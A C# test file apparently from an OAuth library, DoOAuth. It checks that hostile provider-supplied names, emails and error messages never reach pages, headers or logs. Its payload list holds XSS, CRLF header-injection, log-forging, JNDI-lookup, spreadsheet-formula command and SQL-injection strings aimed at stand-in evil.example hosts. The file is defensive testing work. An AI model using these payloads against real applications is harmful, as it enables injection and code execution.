using System.Text.Json.Nodes;
using Microsoft.Extensions.Logging;

namespace DoOAuth.Tests;

/// <summary>What the provider says of users and errors, where it is written to break out of headers, pages, JSON and log lines.</summary>
public sealed class Hostile_words : ScriptedTests
{
    private const string Marker = "h0st1l3";

    public static TheoryData<string> Words =>
    [
        "<script>alert(1)</script>" + Marker, "\"><img src=x onerror=alert(1)>" + Marker, "</title></style></script><svg onload=alert(1)>" + Marker, "javascript:alert(1)//" + Marker,
        Marker + "\r\nSet-Cookie: evil=1", Marker + "\nLocation: https://evil.example", Marker + "\r\n\r\n<h1>split</h1>", Marker + "\u0085\u2028\u2029split",
        Marker + "\r\n2026-01-01 00:00:00 info: DoOAuth: a user signed in.", Marker + "\u001b[2J\u001b[31m", Marker + "\u0000\u0008\u007f", Marker + "\u202Egnp.exe",
        Marker + "{0}{Scheme}{{}}%s%n", Marker + "${jndi:ldap://evil.example/x}", Marker + "=cmd|' /C calc'!A0", Marker + "'; DROP TABLE users; --", "\uFEFF" + Marker + "\uD83E\uDD88",
        Marker + new string('x', 1000),
    ];

    [Theory]
    [MemberData(nameof(Words))]
    public async Task In_a_name_or_an_address_they_show_in_me_alone_and_harmlessly(string words)
    {
        Provider.Token = (context, _) => Answer.Json(context, 200, Provider.TokenAnswer()
            .WithInfo("name", words).WithInfo("team_name", words).WithInfo("team_uuid", Short(words)).WithInfo("email", Short(words)).WithInfo("uuid", Short(words))
            .With("scope", new JsonArray("account:read", "droplet:read", "odd:" + Marker)).ToString());
        var app = await StartAsync(app =>
        {
            app.MapGet("/read", () => "read").RequireDropletRead();
            app.MapGet("/create", () => "create").RequireDropletCreate();
        });
        using var browser = app.NewBrowser();
        List<Page> answers = [await browser.SignInAsync("/login?returnUrl=%2Fread")];
        foreach (var path in new[] { "/read", "/create", "/login", "/login?scope=droplet%3Acreate", "/login?returnUrl=https%3A%2F%2Fx" })
        {
            answers.Add(await browser.LoadAsync(path));
            answers.Add(await browser.GetAsync(path));
        }

        var me = await browser.GetAsync("/me");
        answers.Add(await browser.PostAsync("/logout", ("Origin", "https://evil.example")));
        answers.Add(await browser.SubmitAsync("/disconnect"));

        Assert.Equal(302, answers[0].Status);
        AssertNowhere(answers);
        AssertNotLogged(app);
        Assert.Equal(200, me.Status);
        Assert.Equal("application/json", me.ContentType?.Split(';')[0]);
        Assert.DoesNotContain(me.Body, character => char.IsControl(character) || character is '<' or '>' or '&' or '\'' or > '~');
        Assert.StartsWith((string)me.Json["name"]!, words, StringComparison.Ordinal);
        Assert.DoesNotContain(Marker, string.Join('\n', me.Headers.SelectMany(header => header.Value)), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Words))]
    public async Task In_an_error_they_show_nowhere(string words)
    {
        Provider.Authorize = (context, request) => ScriptedProvider.RedirectBack(
            context, request, ("error", words), ("error_description", words), ("error_uri", "https://evil.example/" + words), ("iss", words), ("scope", words));
        Provider.Token = (context, _) => Answer.Json(
            context, 400, new JsonObject { ["error"] = words, ["error_description"] = words, ["error_uri"] = words }.ToJsonString());
        var app = await StartAsync();
        using var browser = app.NewBrowser();
        List<Page> answers = [await browser.SignInAsync(), await browser.SignInForProblemAsync()];
        Provider.Authorize = (context, request) => ScriptedProvider.RedirectBack(context, request, ("code", words), ("error_description", words));
        answers.Add(await browser.SignInAsync());
        answers.Add(await browser.SignInForProblemAsync());

        Assert.All(answers, answer => Assert.Equal(502, answer.Status));
        AssertNowhere(answers);
        AssertNotLogged(app);
    }

    [Theory]
    [MemberData(nameof(Words))]
    public async Task In_the_answers_to_refresh_and_revocation_too(string words)
    {
        var error = new JsonObject { ["error"] = words, ["error_description"] = words, ["message"] = words, ["id"] = words }.ToJsonString();
        Provider.Revoke = (context, _) => Answer.Json(context, 400, error);
        var app = await StartAsync();
        using var browser = await app.SignedInAsync();
        Provider.Token = (context, _) => Answer.Json(context, 400, error);
        app.Time.Advance(TimeSpan.FromDays(30) - TimeSpan.FromMinutes(1));
        List<Page> answers = [await browser.GetAsync("/me"), await browser.PostAsync("/disconnect"), await browser.SubmitAsync("/disconnect")];

        Assert.Equal([200, 502, 502], answers.Select(answer => answer.Status));
        AssertNowhere(answers);
        AssertNotLogged(app);
    }

    private static string Short(string words) => words.Length <= 256 ? words : words[..256];

    private static void AssertNowhere(IEnumerable<Page> answers) => Assert.All(answers, answer =>
    {
        Assert.DoesNotContain(Marker, answer.AllText, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil=1", answer.AllText, StringComparison.Ordinal);
        Assert.All(answer.Headers, header => Assert.DoesNotContain(string.Concat(header.Value), char.IsControl));
    });

    // The host's own request log shows addresses, encoded as they came; docs/security.md says how to silence it.
    private static void AssertNotLogged(TestApp app)
    {
        var lines = app.Logs.Lines.Where(line => line.Category.StartsWith("DoOAuth", StringComparison.Ordinal)
            || (line.Level >= LogLevel.Information && !line.Category.StartsWith("Microsoft.AspNetCore.Hosting", StringComparison.Ordinal))).ToList();
        Assert.NotEmpty(lines);
        Assert.All(lines, line =>
        {
            Assert.DoesNotContain(Marker, line.All, StringComparison.OrdinalIgnoreCase);

            // The framework breaks lines of its own making.
            Assert.DoesNotContain(line.Category.StartsWith("DoOAuth", StringComparison.Ordinal) ? line.Message : "", char.IsControl);
        });
    }
}
